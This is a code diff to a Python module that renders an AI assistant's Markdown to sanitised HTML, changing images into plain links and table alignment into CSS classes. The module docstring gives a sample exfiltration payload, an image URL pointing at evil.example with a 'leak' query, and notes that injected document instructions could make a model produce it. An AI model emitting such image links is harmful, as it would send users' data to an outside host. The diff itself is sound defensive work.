@@ -1,6 +1,16 @@
 """Assistant text to safe HTML: Markdown (markdown-it-py), code highlighting (pygments),
 then sanitising (nh3). Raw HTML in the model's text is never passed through: markdown-it
 runs with ``html=False`` and nh3 removes anything outside the allow-list below.
+
+Rendering loads no resource (DESIGN §10): an image in the Markdown becomes a plain link
+to it, so an answer (or a document instruction it follows) cannot make the reader's
+browser send data to another host, e.g. ``![x](https://evil.example/p.png?leak=...)``.
+Every image is a link, our own origin's too: one rule, nothing to get wrong. The allow-
+lists below have no element or attribute that loads anything (no img, srcset, iframe,
+object, link, style, no style attributes), and the page's Content-Security-Policy
+(settings.CONTENT_SECURITY_POLICY) is the second line. That policy also refuses inline
+styles, so table column alignment is a class (``align-left``, static/chat.css), not
+markdown-it's ``style="text-align:left"``.
 """
 
 from __future__ import annotations
@@ -9,6 +19,11 @@ import functools
 
 import nh3
 from markdown_it import MarkdownIt
+from markdown_it.common.utils import escapeHtml
+from markdown_it.renderer import RendererHTML
+from markdown_it.rules_core import StateCore
+from markdown_it.token import Token
+from markdown_it.utils import EnvType, OptionsDict
 from pygments import highlight
 from pygments.formatters import HtmlFormatter
 from pygments.lexers import get_lexer_by_name
@@ -53,8 +68,8 @@ ALLOWED_ATTRIBUTES = {
     "div": {"class"},
     "span": {"class"},
     "pre": {"class"},
-    "th": {"style"},
-    "td": {"style"},
+    "th": {"class"},
+    "td": {"class"},
     "ol": {"start"},
 }
 
@@ -70,23 +85,67 @@ def _highlight(code: str, lang: str, _attrs: str) -> str:
     return f'<pre class="highlight"><code>{body}</code></pre>\n'
 
 
+def _image_as_link(
+    self: RendererHTML,
+    tokens: list[Token],
+    idx: int,
+    options: OptionsDict,
+    env: EnvType,
+) -> str:
+    """Render a Markdown image as a link to it, its text the alt text (or the URL).
+
+    Inside a link (``[![alt](src)](href)``) only the text is rendered: links do not
+    nest. The href still goes through nh3 (its schemes and ``rel``).
+    """
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    text = self.renderInlineAsText(token.children or [], options, env) or src
+    depth = 0
+    for earlier in tokens[:idx]:
+        depth += {"link_open": 1, "link_close": -1}.get(earlier.type, 0)
+    if depth > 0:
+        return escapeHtml(text)
+    title = token.attrGet("title")
+    title_attr = f' title="{escapeHtml(str(title))}"' if title else ""
+    return f'<a href="{escapeHtml(src)}"{title_attr}>{escapeHtml(text)}</a>'
+
+
+def _table_align_as_class(state: StateCore) -> None:
+    """Turn markdown-it's ``style="text-align:X"`` on table cells into
+    ``class="align-X"`` (the Content-Security-Policy refuses style attributes)."""
+    for token in state.tokens:
+        if token.type not in ("th_open", "td_open"):
+            continue
+        style = str(token.attrs.pop("style", ""))
+        if style.startswith("text-align:"):
+            token.attrSet("class", "align-" + style.removeprefix("text-align:"))
+
+
 @functools.cache
 def _parser() -> MarkdownIt:
     md = MarkdownIt(
         "commonmark", {"html": False, "linkify": False, "highlight": _highlight}
     )
     md.enable(["table", "strikethrough"])
+    md.add_render_rule("image", _image_as_link)
+    md.core.ruler.push("table_align_as_class", _table_align_as_class)
     return md
 
 
-def markdown_to_html(text: str) -> str:
-    """Render Markdown to sanitised HTML (safe to insert into the page as is)."""
-    html = _parser().render(text or "")
+def html_sanitise(html: str) -> str:
+    """Return ``html`` with everything outside the allow-lists removed: no element or
+    attribute that loads a resource, links only to http(s) and mailto URLs (others lose
+    their href) with ``rel="noopener noreferrer nofollow"``, no style attributes."""
     return nh3.clean(
         html,
         tags=ALLOWED_TAGS,
         attributes=ALLOWED_ATTRIBUTES,
         url_schemes={"http", "https", "mailto"},
         link_rel="noopener noreferrer nofollow",
-        filter_style_properties={"text-align"},
     )
+
+
+def markdown_to_html(text: str) -> str:
+    """Render Markdown to sanitised HTML (safe to insert into the page as is); images
+    become links (see the module docstring)."""
+    return html_sanitise(_parser().render(text or ""))
